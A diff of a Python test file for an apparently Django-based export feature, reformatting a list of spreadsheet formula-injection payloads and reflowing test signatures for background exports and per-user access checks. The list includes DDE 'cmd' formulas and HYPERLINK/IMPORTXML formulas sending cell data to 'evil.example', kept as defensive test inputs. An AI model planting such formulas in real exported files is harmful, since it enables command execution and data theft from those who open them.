@@ -22,7 +22,7 @@ FORMULA_PAYLOADS = [
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
-    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
     "+1+1",
     "+cmd|' /C calc'!A0",
     "-1+1",
@@ -36,7 +36,7 @@ FORMULA_PAYLOADS = [
     "\n=1+1",
     "\t",
     "\r\n@x",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
     "＝1+1",  # full-width equals: harmless, kept as text
     "=" * 5,
 ]
@@ -224,9 +224,7 @@ def _large_export(client, monkeypatch, capture, fmt: str = "csv") -> BackgroundJ
     return job
 
 
-def test_a_large_export_runs_in_celery_and_offers_a_download(
-    logged_in, world, monkeypatch, eager_celery, media, django_capture_on_commit_callbacks
-):
+def test_a_large_export_runs_in_celery_and_offers_a_download(logged_in, world, monkeypatch, eager_celery, media, django_capture_on_commit_callbacks):
     job = _large_export(logged_in, monkeypatch, django_capture_on_commit_callbacks)
     assert job.status == BackgroundJob.Status.DONE
     assert (job.done, job.total) == (2, 2)
@@ -242,9 +240,7 @@ def test_a_large_export_runs_in_celery_and_offers_a_download(
     assert htmx.status_code == 286
 
 
-def test_a_background_export_keeps_the_list_as_it_was_requested(
-    logged_in, world, monkeypatch, media, django_capture_on_commit_callbacks
-):
+def test_a_background_export_keeps_the_list_as_it_was_requested(logged_in, world, monkeypatch, media, django_capture_on_commit_callbacks):
     monkeypatch.setattr(exports, "INLINE_EXPORT_ROWS", 1)
     logged_in.get(io_url("export") + "?format=xlsx")  # on_commit does not fire: the job waits
     job = BackgroundJob.objects.get(kind=BackgroundJob.Kind.EXPORT)
@@ -261,9 +257,7 @@ def test_a_background_export_keeps_the_list_as_it_was_requested(
 
 
 @pytest.mark.parametrize("persona", ["manager_y", "manager_xy", "member_a_x", "staff"])
-def test_another_users_export_job_and_file_are_404(
-    client, world, manager_x, monkeypatch, eager_celery, media, django_capture_on_commit_callbacks, persona
-):
+def test_another_users_export_job_and_file_are_404(client, world, manager_x, monkeypatch, eager_celery, media, django_capture_on_commit_callbacks, persona):
     client.force_login(manager_x)
     job = _large_export(client, monkeypatch, django_capture_on_commit_callbacks)
     client.force_login(world.users[persona])
